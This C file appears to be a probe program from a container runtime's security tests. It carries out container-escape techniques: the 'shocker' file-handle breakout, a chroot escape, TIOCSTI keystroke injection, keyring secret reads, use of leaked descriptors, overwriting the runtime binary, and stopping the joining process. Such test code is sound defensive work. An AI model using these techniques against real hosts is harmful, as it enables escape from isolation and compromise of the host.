/* What an attacker brings into a container: inside WHAT [ARGUMENT...]. It prints what it has gained, if
 * anything. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

/* caps: the bounding set as it is, whatever /proc says */
static void caps(char **args)
{
	unsigned long long set = 0;

	(void)args;
	for (int c = 0; c < 64; c++)
		if (prctl(PR_CAPBSET_READ, c, 0, 0, 0) == 1)
			set |= 1ULL << c;
	printf("%016llx\n", set);
}

/* handle TYPE HEX: shocker.c of 2014, a file by its handle, past every directory */
static void handle(char **args)
{
	struct {
		struct file_handle head;
		unsigned char bytes[128];
	} h = {{(unsigned)strlen(args[1]) / 2, atoi(args[0])}, {0}};
	char text[64] = "";
	int root = open("/", O_RDONLY | O_DIRECTORY);

	for (unsigned i = 0; i < h.head.handle_bytes; i++)
		sscanf(args[1] + 2 * i, "%2hhx", &h.head.f_handle[i]);
	int fd = open_by_handle_at(root, &h.head, O_RDONLY);
	if (fd >= 0 && read(fd, text, sizeof(text) - 1) > 0)
		printf("%s\n", text);
}

/* lock: flock whatever stands in / */
static void lock(char **args)
{
	DIR *d = opendir("/");
	struct dirent *e;

	(void)args;
	while ((e = readdir(d)))
		flock(open(e->d_name, O_RDONLY), LOCK_EX);
	flock(open("/", O_RDONLY), LOCK_EX);
	puts("locked");
	fflush(stdout);
	pause();
}

/* chroot MARK: out of a root directory that is no root of a mount namespace */
static void climb(char **args)
{
	mkdir("/tmp/step", 0755);
	if (chroot("/tmp/step") < 0)
		return;
	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	if (chroot(".") == 0 && access(args[0], F_OK) == 0)
		puts("climbed");
}

/* stdin MARK: standard input as a directory of the host, or a file of it, to be written */
static void standard_input(char **args)
{
	if (fchdir(0) == 0 && access(args[0] + 1, F_OK) == 0)
		puts("directory");
	int fd = open("/proc/self/fd/0", O_WRONLY);
	struct stat st;
	if (fd >= 0 && fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && write(fd, "pwned", 5) == 5)
		puts("file");
}

/* descriptors MARK: whatever is open that can be used */
static void descriptors(char **args)
{
	for (int fd = 3; fd < 1024; fd++)
		if (faccessat(fd, args[0] + 1, F_OK, 0) == 0 || lseek(fd, 0, SEEK_CUR) >= 0)
			printf("%d\n", fd);
	char cwd[4096];
	if (syscall(SYS_getcwd, cwd, sizeof(cwd)) < 0 || cwd[0] != '/' || access(args[0] + 1, F_OK) == 0)
		puts("cwd");
	if (access("etc/only-on-the-host", F_OK) == 0)
		puts("workdir");
}

/* type TEXT: as if at the keyboard of the terminal */
static void type(char **args)
{
	int n = 0;

	for (const char *c = args[0]; *c; c++)
		n += ioctl(0, TIOCSTI, c) == 0 || ioctl(0, TIOCSTI | 0x100000000UL, c) == 0;
	n += ioctl(0, TIOCSTI, "\n") == 0;
	printf("typed %d\n", n);
}

/* key NAME: of the session's keyring */
static void key(char **args)
{
	char text[64] = "";
	long id = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3, "user", args[0], 0);

	if (id > 0 && syscall(SYS_keyctl, 11 /* KEYCTL_READ */, id, text, sizeof(text) - 1) > 0)
		puts(text);
}

/* overwrite FD: the program whose file that is, as soon as nobody runs it */
static void overwrite(char **args)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%s", args[0]);
	if (fork() > 0)
		return;
	setsid();
	close_range(0, 2, 0);
	for (time_t end = time(NULL) + 8; time(NULL) < end;) {
		int fd = open(path, O_WRONLY);
		if (fd >= 0 && write(fd, "#!/pwned", 8) == 8)
			return;
		close(fd);
	}
}

/* abstract NAME: who answers at a socket without a file */
static void abstract(char **args)
{
	struct sockaddr_un to = {.sun_family = AF_UNIX};
	char text[64] = "";
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	strncpy(to.sun_path + 1, args[0], sizeof(to.sun_path) - 2);
	if (connect(fd, (struct sockaddr *)&to,
		    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(args[0]))) == 0 &&
		read(fd, text, sizeof(text) - 1) > 0)
		puts(text);
}

/* open PATH...: those that can be opened to be written; nothing is */
static void openable(char **args)
{
	for (; *args; args++)
		if (open(*args, O_WRONLY) >= 0)
			puts(*args);
}

/* read PATH...: those of which a byte can be read */
static void readable(char **args)
{
	char byte;

	for (; *args; args++)
		if (read(open(*args, O_RDONLY), &byte, 1) == 1)
			puts(*args);
}

static int is_joiner(const char *pid)
{
	char path[300], name[16] = "";
	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	int fd = open(path, O_RDONLY);

	if (fd >= 0 && read(fd, name, sizeof(name) - 1) < 0)
		name[0] = 0;
	close(fd);
	return strncmp(name, "nsinit", 6) == 0;
}

/* stop: whoever enters, as long as it has not executed what it is to run */
static void stop(char **args)
{
	struct dirent *e;

	(void)args;
	for (;;) {
		DIR *d = opendir("/proc");

		while (d && (e = readdir(d))) {
			pid_t pid = atoi(e->d_name);

			if (pid < 2 || !is_joiner(e->d_name) || kill(pid, SIGSTOP) < 0)
				continue;
			if (!is_joiner(e->d_name))
				kill(pid, SIGCONT);
		}
		closedir(d);
	}
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		void (*run)(char **args);
	} all[] = {{"caps", caps}, {"handle", handle}, {"lock", lock}, {"chroot", climb},
		{"stdin", standard_input}, {"descriptors", descriptors}, {"type", type}, {"key", key},
		{"overwrite", overwrite}, {"abstract", abstract}, {"open", openable}, {"read", readable},
		{"stop", stop}};

	for (size_t i = 0; argc > 1 && i < sizeof(all) / sizeof(all[0]); i++)
		if (strcmp(argv[1], all[i].name) == 0) {
			all[i].run(argv + 2);
			return 0;
		}
	return 2;
}
